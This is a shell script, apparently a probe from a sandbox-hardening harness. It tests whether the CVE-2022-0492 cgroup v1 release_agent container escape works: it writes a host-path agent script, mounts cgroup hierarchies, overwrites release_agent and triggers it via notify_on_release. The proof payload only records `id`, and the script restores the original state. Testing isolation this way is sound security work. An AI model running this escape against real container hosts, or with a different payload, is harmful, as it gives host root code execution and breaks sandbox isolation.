# CVE-2022-0492 and the classic privileged-container escape: mount a cgroup v1
# hierarchy (each controller, and a new named one), write its release_agent
# (a program the *host* kernel runs as host root when a cgroup empties) and
# trigger it with notify_on_release. The agent only writes `id` into a file
# the sandbox can read.
mnt=/mnt/drydock-cg
mkdir -p "$mnt"
# Where a file of this sandbox lives on the host, for the agent's path: the
# upper layer of a writable root filesystem, else this sandbox's own disk.
upper=$(grep -o 'upperdir=[^,]*' /proc/self/mountinfo | head -1 | cut -d= -f2)
if [ -n "$upper" ] && touch /drydock-ra-probe 2>/dev/null; then
  rm -f /drydock-ra-probe; inside=/drydock-ra.sh; proof=/drydock-ra-proof; host_dir=$upper
else
  inside=/root/drydock-ra.sh; proof=/root/drydock-ra-proof
  dev=$(findmnt -rn -o SOURCE /root | sed "s/\[.*//"); back=$(cat "/sys/block/${dev##*/}/loop/backing_file" 2>/dev/null)
  host_dir="${back%.img}$(findmnt -rn -o FSROOT /root)"
fi
note "agent at $inside (host path ${host_dir}/${inside##*/})"
printf '#!/bin/sh\nid > %s/%s\n' "$host_dir" "${proof##*/}" >"$inside" && chmod +x "$inside"
agent="$host_dir/${inside##*/}"
for opt in $(awk 'NR > 1 && $4 == 1 {print $1}' /proc/cgroups) none,name=drydock-x; do
  if ! r=$(mount -t cgroup -o "$opt" cgroup "$mnt" 2>&1); then blocked "mount -t cgroup -o $opt: $(why "$r")"; continue; fi
  if ! mounted_as "$mnt" cgroupfs; then note "-o $opt: mounted, but not a cgroup fs"; umount "$mnt"; continue; fi
  if [ ! -e "$mnt/release_agent" ]; then
    blocked "-o $opt mounts only this sandbox's own cgroup (no release_agent there)"
  else
    before=$(cat "$mnt/release_agent")
    if r=$(write_to "$mnt/release_agent" "$agent"); then
      escaped "wrote release_agent of a cgroup hierarchy (-o $opt)"
      mkdir -p "$mnt/drydock-x" && echo 1 >"$mnt/drydock-x/notify_on_release" && sh -c "echo \$\$ > $mnt/drydock-x/cgroup.procs"
      sleep 1
      [ -s "$proof" ] && escaped "the host ran the agent: $(head -c 100 "$proof")"
      rmdir "$mnt/drydock-x" 2>/dev/null
      write_to "$mnt/release_agent" "$before"$'\n' >/dev/null   # a newline: an empty write would leave the agent in place
    else
      blocked "write release_agent (-o $opt): $r"
    fi
  fi
  umount "$mnt"
done
rm -f "$inside" "$proof"
